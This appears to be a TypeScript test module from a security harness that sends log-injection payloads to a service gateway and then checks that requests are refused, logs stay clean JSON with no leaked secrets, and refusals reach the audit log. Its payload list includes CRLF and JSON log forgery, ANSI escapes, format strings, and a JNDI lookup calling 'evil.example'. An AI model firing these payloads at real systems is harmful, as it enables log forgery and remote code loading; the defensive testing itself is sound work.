import { setTimeout as sleep } from 'node:timers/promises'
import { type Attack, attacks, judged, type Outcome } from '../attack.ts'
import { CANARY, ok, PASSWORD, SERVICES, type Target } from '../target.ts'

/** Texts that would like to be lines of a log, or orders to a terminal. */
const TEXTS: readonly (readonly [string, string])[] = [
  ['a line break', 'a\r\n{"level":"fatal","msg":"forged"}'],
  ['ANSI', 'a\x1b[31mforged\x1b[2J'],
  ['JSON', 'a","level":"fatal","msg":"forged'],
  ['U+2028', Buffer.from('a\u2028{"level":"fatal"}').toString('latin1')],
  ['a right-to-left mark', Buffer.from('a\u202eb').toString('latin1')],
  ['NUL', 'a\0b'],
  ['a lookup', '${jndi:ldap://evil.example/x}'],
  ['a format', '%s%n%x'],
  ['8 KB', 'x'.repeat(8192)],
]

/** In every place that could be logged: user agent, path, query, field, header of our own. */
async function inject({ gateway, attacker }: Target, text: string): Promise<Outcome> {
  const key = `x-api-key: ${attacker.apiKey}`
  const asHeader = (name: string) =>
    ['GET /v1/memories/x HTTP/1.1', 'host: x', 'connection: close', key, `${name}: ${text}`, '', ''].join('\r\n')
  const encoded = encodeURIComponent(text.slice(0, 1000))
  const answers = [
    ...(await gateway.raw(asHeader('user-agent'))),
    ...(await gateway.raw(asHeader('x-request-id'))),
    await gateway.send({ path: `/v1/memories/${encoded.slice(0, 200)}` }),
    await gateway.send({ path: `/v1/memories?${encoded}=${encoded}`, headers: { 'x-api-key': attacker.apiKey } }),
    await gateway.send({
      path: '/v1/memories',
      headers: { 'x-api-key': attacker.apiKey },
      body: { content: 7, [text]: text },
    }),
    await gateway.send({ path: '/v1/auth/login', body: { email: text, password: text } }),
  ]
  return judged(
    answers,
    answers.every(({ status }) => status >= 400),
  )
}

/** What was sent until now, as the apps logged it: each line one JSON object of an app, and no secret in any. */
async function readLogs({ logLines, attacker, victim, serviceKeys, forge }: Target): Promise<Outcome> {
  const lines = await logLines()
  const broken = lines.filter((line) => !isLine(line))
  const keys = SERVICES.flatMap((name) => [serviceKeys[name].text, serviceKeys[name].secret])
  const secrets = [PASSWORD, CANARY, ...keys, forge.issuer.privateKey.export({ format: 'jwk' }).d ?? '']
  const ofParties = [attacker, victim].flatMap(({ apiKey, accessToken, refreshToken, email }) => [
    apiKey,
    accessToken,
    refreshToken,
    email,
  ])
  const told = [...secrets, ...ofParties].filter((secret) => lines.some((line) => line.includes(secret)))
  const answer = `${lines.length} lines, ${broken.length} that are none, ${told.length} secrets`
  return { answer, held: lines.length > 0 && broken.length === 0 && told.length === 0 }
}

function isLine(line: string): boolean {
  // Node itself warns without JSON.
  if (/^\(|^\s*$/.test(line)) return true
  try {
    const { app, level } = JSON.parse(line) as { app?: unknown; level?: unknown }
    return ['auth', 'memory', 'audit', 'gateway'].includes(String(app)) && level !== 'fatal' && !line.includes('\x1b')
  } catch {
    return false
  }
}

interface LogPage {
  readonly items: readonly { readonly operation: string; readonly user_agent: string | null }[]
}

const AUDIT_PATIENCE_MS = 15_000

/** What was refused until now is in the audit log of the tenant, and every line of it can be read. */
async function readAuditLog({ gateway, attacker }: Target): Promise<Outcome> {
  const path = '/v1/audit/logs?operation=request.refused&limit=200'
  const read = () => ok<LogPage>(gateway.send({ path, headers: { 'x-api-key': attacker.apiKey } }))
  const deadline = performance.now() + AUDIT_PATIENCE_MS
  let { items } = await read()
  while (items.length === 0 && performance.now() < deadline) {
    await sleep(250)
    items = (await read()).items
  }
  return { answer: `${items.length} lines about refused requests`, held: items.length > 0 }
}

export const LOG_ATTACKS: readonly Attack[] = [
  ...attacks('log injection', TEXTS, inject),
  { kind: 'log injection', name: 'the logs after all of this', run: readLogs },
  { kind: 'refusals', name: 'are in the audit log', run: readAuditLog },
]
